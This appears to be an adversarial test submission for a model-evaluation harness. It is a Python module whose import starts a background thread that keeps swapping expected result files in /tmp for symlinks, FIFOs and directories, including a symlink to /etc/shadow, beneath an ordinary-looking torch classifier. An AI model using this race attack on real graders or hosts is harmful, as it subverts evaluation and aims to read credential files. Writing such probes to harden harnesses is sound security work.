"""Swaps files where results might be collected for links and pipes, again and again."""

import os
import threading
import time

import torch


def swap():
    while True:
        for name in ("result.json", "predictions.npy", "stdout", "log.txt"):
            for make in (lambda path: os.symlink("@CANARY@", path), os.mkfifo, lambda path: os.mkdir(path)):
                path = f"/tmp/.{name}"
                try:
                    make(path)
                except OSError:
                    os.symlink("/etc/shadow", path)
                os.rename(path, f"/tmp/{name}")
                os.rmdir(f"/tmp/{name}") if os.path.isdir(f"/tmp/{name}") else os.unlink(f"/tmp/{name}")
        time.sleep(0.002)


threading.Thread(target=swap, daemon=True).start()
print("TRIED")


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
